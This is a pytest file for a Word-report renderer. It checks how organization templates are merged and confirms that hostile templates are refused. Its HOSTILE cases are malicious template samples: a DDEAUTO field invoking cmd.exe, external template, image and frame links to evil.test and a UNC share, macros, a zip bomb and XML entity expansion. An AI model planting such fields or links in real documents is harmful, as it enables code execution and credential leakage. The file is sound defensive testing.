"""Templates of organizations: what is kept of them, what is added, and which are refused."""

from __future__ import annotations

import re
import zlib
from collections.abc import Callable
from contextlib import suppress
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_LZMA, ZipFile

import docx
import pytest
from docx.document import Document as WordFile

from making.effort import all_or
from making.tables import document, row
from making.word_files import findings, parts
from making.word_templates import MACROS, PLAIN, changed, logo, replacing, saved, template
from trafficking_indicators.documents.blocks import (
    Bullets,
    Cell,
    Column,
    Contents,
    Document,
    Facts,
    Heading,
    Labels,
    Legend,
    Note,
    Part,
    Table,
    paragraph,
    plain,
)
from trafficking_indicators.errors import TemplateError
from trafficking_indicators.render.docx.file import to_docx

REPORT = Document(
    "az",
    "The title",
    (
        Contents(),
        Part("Part"),
        Heading("Heading"),
        paragraph("Text."),
        Bullets((plain("point"),)),
        Facts((("label", plain("fact")),)),
        Table((Column("a"), Column("b", "group")), ((Cell("x", "good", "full"), Cell("y")),)),
        Table((Column("wide"),), (row("one"),), wide=True),
        Legend((("full", "met"),)),
        Note(plain("Careful.")),
    ),
    marking="internal",
    labels=Labels("Contents", page="page {page} of {pages}"),
)
TEMPLATE = template()


def made(raw: bytes) -> WordFile:
    return docx.Document(BytesIO(to_docx(REPORT, raw)))


def test_a_report_in_a_template_has_no_findings_and_the_same_bytes_twice() -> None:
    content = to_docx(REPORT, TEMPLATE)
    assert [] == findings(content)
    assert content == to_docx(REPORT, TEMPLATE)


def test_styles_header_logo_and_paper_of_a_template_are_kept() -> None:
    file = made(TEMPLATE)
    assert "123456" == str(file.styles["Heading 1"].font.color.rgb)
    section = file.sections[0]
    assert ["The Organization", "internal", "The title"] == [found.text for found in section.header.paragraphs]
    assert ["Street 1, Town", "page 1 of 1"] == [
        "".join(re.findall(r"<w:t[^>]*>([^<]*)<", found._element.xml)) for found in section.footer.paragraphs
    ]
    pictures = [part for part in section.header.part.rels.values() if part.reltype.endswith("/image")]
    assert [logo()] == [found.target_part.blob for found in pictures]
    assert [3.0, 3.0] == [round(side.cm, 1) for side in (section.left_margin, section.right_margin) if side is not None]
    assert all(found.header.is_linked_to_previous for found in list(file.sections)[1:])


def test_text_and_author_of_a_template_are_not_kept() -> None:
    content = parts_as_text(to_docx(REPORT, TEMPLATE))
    assert "What stood in the template" not in content
    assert "Somebody Else" not in content


def parts_as_text(content: bytes) -> str:
    with ZipFile(BytesIO(content)) as file:
        return "\n".join(file.read(name).decode("utf-8", "replace") for name in file.namelist())


def test_styles_that_a_template_lacks_are_ours_and_their_numbers_are_free() -> None:
    file = docx.Document(BytesIO(TEMPLATE))
    for name in ("List Bullet", "Title", "Caption"):
        file.styles[name].delete()
    content = to_docx(REPORT, saved(file))
    assert [] == findings(content)
    found = parts(changed(content, {"word/media/template1.png": lambda _: b""}))
    (number,) = re.findall(r'<w:name w:val="List Bullet"/>.*?<w:numId w:val="(\d+)"/>', found["word/styles.xml"], re.S)
    assert f'<w:num w:numId="{number}">' in found["word/numbering.xml"]
    assert 1 == found["word/numbering.xml"].count(f'w:abstractNumId="{number}"')


def test_styles_are_found_by_name_where_their_ids_are_of_another_language() -> None:
    renamed = changed(TEMPLATE, {"word/styles.xml": lambda part: part.replace(b'"Heading1"', b'"berschrift1"')})
    assert "berschrift1" in parts_as_text(to_docx(REPORT, renamed))
    assert "Part" == next(
        found.text for found in made(renamed).paragraphs if found.style and found.style.style_id == "berschrift1"
    )


def test_a_template_speaks_the_language_of_the_report() -> None:
    german = changed(TEMPLATE, {"word/styles.xml": replacing(b'w:val="en-US"', b'w:val="de-DE"')})
    text = parts(changed(to_docx(REPORT, german), {"word/media/template1.png": lambda _: b""}))["word/styles.xml"]
    assert ["az-Latn-AZ"] == re.findall(r'<w:lang w:val="([^"]*)"', text)


def test_a_template_without_header_gets_ours() -> None:
    section = made(saved(docx.Document())).sections[0]
    assert ["internal", "The title"] == [found.text for found in section.header.paragraphs]
    assert ["internal"] == [found.text for found in section.first_page_header.paragraphs]


def test_every_header_of_a_template_says_where_the_report_may_not_go() -> None:
    file = docx.Document(BytesIO(TEMPLATE))
    section = file.sections[0]
    section.different_first_page_header_footer = True
    section.first_page_header.paragraphs[0].text = "First"
    file.settings.odd_and_even_pages_header_footer = True
    found = made(saved(file)).sections[0]
    assert ["First", "internal"] == [line.text for line in found.first_page_header.paragraphs]
    assert ["internal", "The title"] == [line.text for line in found.even_page_header.paragraphs]


def test_a_footer_that_counts_pages_does_not_count_them_twice() -> None:
    counting = changed(
        TEMPLATE,
        {
            "word/footer1.xml": replacing(
                b"</w:p>", b'<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
            )
        },
    )
    assert 1 == len(made(counting).sections[0].footer.paragraphs)


@pytest.mark.parametrize(
    "target",
    all_or(
        ["file:///C:\\Templates\\Normal.dotm"],
        ["file:///C:\\Templates\\Normal.dotm", "Normal.dotm", "C:/Templates/a.dotx"],
    ),
)
def test_a_template_that_was_begun_with_one_on_a_disk_is_fine(target: str) -> None:
    content = to_docx(REPORT, changed(TEMPLATE, {}, {"word/_rels/settings.xml.rels": attached(target)}))
    assert "Normal.dotm" not in parts_as_text(content)
    assert [] == findings(content)


def attached(target: str, kind: str = "attachedTemplate") -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    ).encode()


def with_rels(name: str, target: str, kind: str) -> bytes:
    return changed(TEMPLATE, {}, {name: attached(target, kind)})


def in_header(text: bytes) -> bytes:
    return changed(TEMPLATE, {"word/header1.xml": replacing(b"</w:p>", text + b"</w:p>")})


def bomb() -> bytes:
    return changed(TEMPLATE, {"word/styles.xml": lambda _: b" " * 40_000_000})


def packed_by(method: int) -> bytes:
    made = BytesIO()
    with ZipFile(BytesIO(TEMPLATE)) as before, ZipFile(made, "w", method) as after:
        for name in before.namelist():
            after.writestr(name, before.read(name))
    return made.getvalue()


def many_entries() -> bytes:
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as after:
        for number in range(3000):
            after.writestr(f"{number}.xml", b"")
    return made.getvalue()


def field(instruction: bytes) -> bytes:
    return b"<w:r><w:instrText>" + instruction + b"</w:instrText></w:r>"


DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
HEADER_RELS = "word/_rels/header1.xml.rels"
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty": (lambda: b"", "no Word document"),
    "text": (lambda: b"hello", "no Word document"),
    "cut": (lambda: TEMPLATE[: len(TEMPLATE) // 2], "no Word document"),
    "cut at its end": (lambda: TEMPLATE[:-10], "no Word document"),
    "another archive": (many_entries, "far larger"),
    "an old document": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old version of Word"),
    "a bomb": (bomb, "far larger"),
    "packed otherwise": (lambda: packed_by(ZIP_LZMA), "no Word document"),
    "macros by type": (lambda: changed(TEMPLATE, {"[Content_Types].xml": replacing(PLAIN, MACROS)}), "macros"),
    "macros by part": (lambda: changed(TEMPLATE, {}, {"word/vbaProject.bin": b"x"}), "macros"),
    "no types": (lambda: changed(TEMPLATE, {"[Content_Types].xml": lambda _: b"<x/>"}), "no Word document"),
    "a document type": (
        lambda: changed(TEMPLATE, {"word/styles.xml": lambda part: DOCTYPE + part}),
        "declares a document type",
    ),
    "entities": (
        lambda: changed(TEMPLATE, {"word/header1.xml": lambda _: DOCTYPE + b"<w>&b;</w>"}),
        "declares a document type",
    ),
    "broken styles": (lambda: changed(TEMPLATE, {"word/styles.xml": lambda part: part[:500]}), "cannot be read"),
    "depth": (lambda: changed(TEMPLATE, {"word/styles.xml": lambda _: b"<a>" * 5000 + b"</a>" * 5000}), "far larger"),
    "elements": (
        lambda: changed(TEMPLATE, {"word/styles.xml": lambda _: b"<a>" + b"<a/>" * 300_000 + b"</a>"}),
        "far larger",
    ),
    "another encoding": (
        lambda: changed(TEMPLATE, {"word/styles.xml": replacing(b"UTF-8", b"UTF-7")}),
        "not in UTF-8",
    ),
    "sixteen bits": (
        lambda: changed(TEMPLATE, {"word/styles.xml": lambda part: part.decode().encode("utf-16")}),
        "not in UTF-8",
    ),
    "attributes": (
        lambda: changed(
            TEMPLATE, {"word/styles.xml": lambda _: b"<a %s/>" % b" ".join(b"a%d='1'" % at for at in range(999))}
        ),
        "far larger",
    ),
    "another part": (
        lambda: changed(TEMPLATE, {"word/styles.xml": lambda _: b"<styles/>"}),
        "not what it is said to be",
    ),
    "a template elsewhere": (
        lambda: with_rels("word/_rels/settings.xml.rels", "https://evil.test/a.dotm", "attachedTemplate"),
        "it loads another template",
    ),
    "a template on a share": (
        lambda: with_rels("word/_rels/settings.xml.rels", "\\\\evil.test\\a.dotm", "attachedTemplate"),
        "it loads another template",
    ),
    "a picture elsewhere": (
        lambda: with_rels(HEADER_RELS + "x.rels", "https://evil.test/a.png", "image"),
        "something outside",
    ),
    "a frame": (
        lambda: with_rels("word/_rels/webSettings.xml.rels", "https://evil.test/", "frame"),
        "something outside",
    ),
    "a field that runs": (lambda: in_header(field(b"DDE") + field(b"AUTO c:\\\\cmd.exe")), "DDEAUTO"),
    "a field that loads": (
        lambda: in_header(b'<w:fldSimple w:instr="includepicture &quot;https://evil.test&quot;"/>'),
        "INCLUDEPICTURE",
    ),
    "a source": (
        lambda: in_header(b'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.test/a.png"/>'),
        "loads something outside",
    ),
}


@pytest.mark.parametrize("case", all_or([*HOSTILE][::2], HOSTILE))
def test_a_hostile_template_is_refused_with_its_reason(case: str) -> None:
    raw, reason = HOSTILE[case]
    with pytest.raises(TemplateError, match=re.escape(reason)) as refused:
        to_docx(REPORT, raw())
    assert refused.value.help


@pytest.mark.parametrize("seed", all_or(range(3), range(12)))
def test_a_damaged_template_is_refused_or_used_but_never_a_bug(seed: int) -> None:
    damaged = bytearray(TEMPLATE)
    for step in range(40):
        damaged[zlib.crc32(bytes((seed, step))) % len(damaged)] ^= 1 + step
    with suppress(TemplateError):
        assert [] == findings(to_docx(document(paragraph("x")), bytes(damaged)))
